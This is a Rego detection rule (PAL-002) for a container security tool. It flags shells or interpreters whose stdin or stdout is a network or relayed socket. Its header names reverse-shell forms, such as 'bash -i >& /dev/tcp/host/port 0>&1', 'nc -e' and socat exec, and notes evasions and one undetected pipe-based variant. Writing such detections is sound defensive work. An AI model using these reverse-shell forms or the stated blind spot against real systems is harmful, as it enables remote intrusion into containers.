# METADATA
# title: Reverse shell in a container
# description: >-
#   A shell, netcat-like tool or interpreter in a container whose stdin or stdout is a network connection: the
#   shape of every reverse shell (`bash -i >& /dev/tcp/host/port 0>&1`, Python's os.dup2 onto a socket, `nc -e`,
#   socat exec:, a bind shell's accepted connection), whatever started it. Two kernel signals: the exec of such a
#   program with fds 0-2 checked for sockets (exec.stdio_sockets), and the dup2/dup3/fcntl that puts a connected
#   inet socket onto fd 0 or 1 of a shell or interpreter (fd_dup). Any peer address counts, loopback included: a
#   shell's stdin is never a TCP connection in ordinary work. Both alerts carry the peer as their key, so the dup
#   and the exec of one attack fold into one alert. A program of any name (a copied shell, busybox, the loader,
#   script(1)) started with stdin and stdout on one connection fires too: the name is the attacker's to choose; so
#   does a shell whose stdin is a UNIX socket connected to a named listener (a relay to TCP). Not caught: a shell fed through a pipe by a separate network
#   process (mkfifo + nc); PAL-006 sees the unexpected shell there.
# related_resources:
#   - ref: https://attack.mitre.org/techniques/T1059/004/
# scope: package
# custom:
#   id: PAL-002
#   severity: critical
#   mitre: T1059.004
#   actions: [quarantine]
#   event_kinds: [exec, fd_dup]
package palisade.rules.pal_002

import data.palisade.lib
import data.palisade.lib.lists
import data.palisade.lib.macros

stdio_names := {0: "stdin", 1: "stdout"}

alerts contains {"index": i, "rule_id": "PAL-002", "message": msg, "key": key} if {
	some i, e in input.events
	macros.spawned_process(e)
	macros.in_container(e)
	shell_like(e)
	socks := [s | some s in object.get(e.exec, "stdio_sockets", []); s.fd in {0, 1}; macros.network_peer(s)]
	count(socks) > 0
	s := socks[0]
	key := macros.peer_of(s)
	msg := sprintf("%s (pid %d) started with its %s a %s connection to %s in %s: reverse shell", [
		e.exec.filename, e.process.pid, stdio_names[s.fd], s.type, key, lib.workload(e),
	])
}

# Any program, whatever its name, started with both stdin and stdout on one network connection: the shape of a
# reverse shell done with a copied or renamed shell, the loader (`ld-linux-x86-64.so.2 /bin/sh`), script(1) or a
# memfd, where no name gives it away. Ordinary container work never starts a program on a TCP connection as its
# terminal; inetd-style services would, and want an exception.
alerts contains {"index": i, "rule_id": "PAL-002", "message": msg, "key": key} if {
	some i, e in input.events
	macros.spawned_process(e)
	macros.in_container(e)
	not shell_like(e)
	socks := object.get(e.exec, "stdio_sockets", [])
	some s in socks
	s.fd == 0
	macros.network_peer(s)
	some o in socks
	o.fd == 1
	macros.network_peer(o)
	key := macros.peer_of(s)
	macros.peer_of(o) == key
	msg := sprintf("%s (pid %d) started with its stdin and stdout a %s connection to %s in %s: reverse shell", [
		e.exec.filename, e.process.pid, s.type, key, lib.workload(e),
	])
}

# A shell whose stdin is a UNIX socket connected to a named listener: a relay (socat, a small script) on the other
# end forwards it to the network, so the shell never holds an inet socket. Not a socketpair (unix_path "": Node's
# and other supervisors' child stdio) and not stdout alone (journald's stream socket is a named one).
alerts contains {"index": i, "rule_id": "PAL-002", "message": msg, "key": key} if {
	some i, e in input.events
	macros.spawned_process(e)
	macros.in_container(e)
	shell_like(e)
	some s in object.get(e.exec, "stdio_sockets", [])
	s.fd == 0
	s.family == "unix"
	s.connected == true
	s.unix_path != ""
	key := sprintf("unix:%s", [s.unix_path])
	msg := sprintf("%s (pid %d) started with its stdin a UNIX socket connected to %s in %s: a relayed reverse shell", [
		e.exec.filename, e.process.pid, s.unix_path, lib.workload(e),
	])
}

alerts contains {"index": i, "rule_id": "PAL-002", "message": msg, "key": key} if {
	some i, e in input.events
	e.kind == "fd_dup"
	macros.in_container(e)
	shell_like(e)
	e.fd_dup.result in {0, 1}
	macros.network_peer(e.fd_dup)
	key := macros.peer_of(e.fd_dup)
	msg := sprintf("%s (pid %d) made its %s a connection to %s (%s) in %s: reverse shell", [
		macros.proc_name(e), e.process.pid, stdio_names[e.fd_dup.result], key, e.fd_dup.syscall, lib.workload(e),
	])
}

shell_like(e) if {
	some n in macros.proc_names(e)
	n in (lists.shells | lists.netcats)
}

shell_like(e) if {
	some n in macros.proc_names(e)
	macros.interpreter(n)
}
